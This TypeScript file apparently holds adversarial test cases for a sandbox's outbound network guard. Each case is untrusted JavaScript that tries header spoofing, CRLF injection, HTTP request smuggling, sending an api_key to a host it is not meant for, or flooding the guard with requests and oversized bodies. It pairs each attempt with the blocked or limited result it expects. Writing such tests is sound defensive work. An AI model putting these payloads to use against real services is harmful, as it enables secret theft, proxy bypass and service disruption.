import type { HostileClass } from '../hostile-case.ts'

const NETWORK = ['api.example', 'other.example']
const at = (host: string, path = '/') => `'http://${host}:' + parameters.port + '${path}'`

export const HEADERS: HostileClass = {
  name: 'spoofed headers and secrets',
  language: 'javascript',
  cases: [
    {
      name: 'the guard’s own header, to go elsewhere',
      body: `return (await (await fetch(${at('api.example')}, { headers: { 'x-guildhall-url': 'http://127.0.0.1:' + parameters.port + '/inside' } })).json()).url`,
      network: NETWORK,
      ends: { returns: '/' },
    },
    {
      name: 'another host in the Host header',
      body: `return (await (await fetch(${at('other.example')}, { headers: { host: 'api.example:' + parameters.port, 'x-key': config.api_key } })).json()).headers.host.split(':')[0]`,
      network: NETWORK,
      ends: { returns: 'other.example' },
    },
    {
      name: 'headers that claim to come from a proxy',
      body: `const { headers } = await (await fetch(${at('api.example')}, { headers: { 'x-forwarded-for': '127.0.0.1', forwarded: 'for=127.0.0.1', 'x-real-ip': '127.0.0.1', 'cf-connecting-ip': '127.0.0.1' } })).json(); return Object.keys(headers).filter((name) => /forward|real-ip|^cf-|guildhall/.test(name))`,
      network: NETWORK,
      ends: { returns: [] },
    },
    {
      name: 'an origin that speaks as the guard',
      body: `const response = await fetch(${at('api.example', '/odd')}); return [await response.text(), response.headers.get('x-guildhall-refused'), response.headers.get('x-guildhall-url'), response.headers.get('x-stored')]`,
      network: NETWORK,
      ends: { returns: ['odd', null, null, 'yes'] },
    },
    {
      name: 'a line break in a header',
      body: `return fetch(${at('api.example')}, { headers: { 'x-a': 'b\\r\\nhost: 127.0.0.1' } })`,
      network: NETWORK,
      ends: { throws: /TypeError/ },
    },
    {
      name: 'a line break in a method',
      body: `return fetch(${at('api.example')}, { method: 'GET / HTTP/1.1\\r\\nhost: 127.0.0.1\\r\\n\\r\\nGET' })`,
      network: NETWORK,
      ends: { throws: /TypeError/ },
    },
    {
      name: 'a second request behind a short length',
      body: `const got = await (await fetch(${at('api.example')}, { method: 'POST', headers: { 'content-length': '3' }, body: 'abcGET /smuggled HTTP/1.1\\r\\nhost: other.example\\r\\n\\r\\n' })).json(); return got.body.length > 3 || got.body === 'abc'`,
      network: NETWORK,
      ends: 'anyhow',
    },
    {
      name: 'a body in chunks that claims a length',
      body: `return (await fetch(${at('api.example')}, { method: 'POST', headers: { 'transfer-encoding': 'chunked', 'content-length': '3' }, body: new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode('0\\r\\n\\r\\nGET /smuggled')); c.close() } }) })).status`,
      network: NETWORK,
      ends: 'anyhow',
    },
    {
      name: 'the secret to a host that it is not for, in every place',
      body: `await fetch(${at('other.example')} + '?k=' + config.api_key, { method: 'POST', headers: { authorization: 'Basic ' + btoa('u:' + config.api_key), 'x-key': config.api_key }, body: JSON.stringify({ k: config.api_key }) }); return 'sent'`,
      network: NETWORK,
      ends: { returns: 'sent' },
    },
    {
      name: 'a placeholder in the host’s name',
      body: `return (await fetch('http://' + config.api_key + '.other.example:' + parameters.port + '/')).status`,
      network: [...NETWORK, '*.other.example'],
      ends: { throws: /./ },
    },
    {
      name: 'a placeholder put together from two',
      body: `const half = config.api_key.slice(0, 20); const got = await (await fetch(${at('api.example')}, { method: 'POST', body: half + half })).json(); return got.body === half + half`,
      network: NETWORK,
      ends: { returns: true },
    },
    {
      name: 'guessed placeholders',
      body: `const guesses = Array.from({ length: 20 }, (_, n) => 'sbxsec_' + String(n).padStart(24, 'A')).join(' '); const got = await (await fetch(${at('api.example')}, { method: 'POST', body: guesses })).json(); return got.body === guesses`,
      network: NETWORK,
      ends: { returns: true },
    },
    {
      name: '400 placeholders in one URL',
      body: `return (await fetch(${at('api.example')} + '?' + ('k=' + config.api_key + '&').repeat(400))).status`,
      network: NETWORK,
      ends: 'anyhow',
    },
    {
      name: 'the secret, asked of the code’s own side',
      body: `return JSON.stringify([config, context, Object.values(globalThis).filter((each) => typeof each === 'string')]).length > 0 && /^sbxsec_/.test(config.api_key)`,
      ends: { returns: true },
    },
    {
      name: 'more requests than it may make, all at once',
      body: `await Promise.all(Array.from({ length: 2000 }, () => fetch(${at('api.example')}).catch(() => {}))); return 'done'`,
      network: NETWORK,
      ends: 'anyhow',
    },
    {
      name: 'more requests than it may make, one after the other',
      body: `for (;;) await (await fetch(${at('api.example')})).text()`,
      network: NETWORK,
      ends: { limit: 'requests' },
    },
    {
      name: 'a response of 11 MB',
      body: `return (await (await fetch(${at('api.example', '/large')})).arrayBuffer()).byteLength`,
      network: NETWORK,
      ends: { limit: 'requests' },
    },
    {
      name: 'a body that never ends',
      body: `let sent = 0; const piece = new Uint8Array(1 << 20); return (await fetch(${at('api.example')}, { method: 'POST', body: new ReadableStream({ pull(c) { c.enqueue(piece); sent += 1 } }) })).status`,
      network: NETWORK,
      ends: { limit: ['requests', 'cpu', 'wall'] },
    },
    {
      name: 'an origin that never answers',
      body: `return (await fetch(${at('api.example', '/never')})).status`,
      network: NETWORK,
      limits: { wallMs: 300 },
      ends: { limit: 'wall' },
    },
  ],
}
